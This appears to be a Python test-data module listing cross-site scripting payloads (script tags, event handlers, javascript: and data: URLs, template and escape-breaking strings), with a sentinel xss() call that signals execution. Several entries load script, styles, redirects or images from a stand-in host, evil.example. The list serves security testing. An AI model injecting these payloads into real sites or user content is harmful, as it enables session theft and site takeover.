"""Texts that run where somebody puts them in as markup, as an address, or into a script. `xss` is heard."""

_SCRIPTS = [
    "<script>xss()</script>", "<ScRiPt >xss()</sCrIpT>", "<script src=https://evil.example/x.js></script>",
    "</script><script>xss()</script>", "<<script>xss();//<</script>", "<script/x>xss()</script>",
    "</title><script>xss()</script>", "</textarea><script>xss()</script>", "--><script>xss()</script>",
    "]]><script>xss()</script>", "</noscript><script>xss()</script>", "</style><script>xss()</script>",
]  # fmt: skip
_HANDLERS = [
    "<img src=x onerror=xss()>", "<img/src=x/onerror=xss()>", '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>", "<svg onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>", "<body onload=xss()>",
    "<details open ontoggle=xss()>", "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>", "<marquee onstart=xss()>", "<select autofocus onfocus=xss()>",
    "<audio src=x onerror=xss()>", "<math><mtext><img src=x onerror=xss()>",
    "<svg><script>xss()</script></svg>", "<p style=animation-name:x onanimationstart=xss()>",
    '" autofocus onfocus="xss()', "' onmouseover='xss()", "x onerror=xss()", "<img src=`x`onerror=xss()>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<svg><style><img src=x onerror=xss()></style></svg>",
]  # fmt: skip
_ADDRESSES = [
    "javascript:xss()", "JaVaScRiPt:xss()", "java\tscript:xss()", "\x01javascript:xss()",
    "data:text/html,<script>xss()</script>", "vbscript:xss()", "<a href=javascript:xss()>x</a>",
    "<iframe src=javascript:xss()></iframe>", "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<form action=javascript:xss()><input type=submit></form>", "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "https://evil.example/javascript:xss()", "http://[javascript:xss()]", "[x](javascript:xss())",
    "![x](https://evil.example/i.png)", "https://x\" onmouseover=\"xss()",
    "www.evil.example/'onclick='xss()", "mailto:x@y.example?body=<script>xss()</script>",
]  # fmt: skip
_TEMPLATES = [
    "{{constructor.constructor('xss()')()}}", "${xss()}", "`${xss()}`", "'-xss()-'", '";xss();//',
    "';xss();//", "\\\";xss();//", "\u2028xss()//", "<img src=https://evil.example/i.png>",
    "<style>@import'https://evil.example/x.css'</style>", "__proto__", "constructor",
    "%3Cscript%3Exss()%3C/script%3E", "&lt;script&gt;xss()&lt;/script&gt;", "\u202e<script>xss()</script>",
]  # fmt: skip
# Where only one can stand at a time.
WORST = [
    '</script><script>xss()</script>', '"><img src=x onerror=xss()>', "';xss();//\u2028xss()",
    "<svg onload=xss()>", "javascript:xss()",
]  # fmt: skip

PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_TEMPLATES]
